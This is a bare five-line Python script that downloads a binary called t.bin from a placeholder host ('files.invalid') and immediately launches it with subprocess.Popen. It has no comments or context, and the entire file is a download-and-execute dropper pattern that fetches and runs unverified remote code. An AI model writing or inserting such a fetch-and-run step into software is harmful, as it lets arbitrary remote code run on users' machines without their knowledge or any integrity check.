import subprocess
import urllib.request

urllib.request.urlretrieve("http://files.invalid/t.bin", "t.bin")
subprocess.Popen(["./t.bin"])
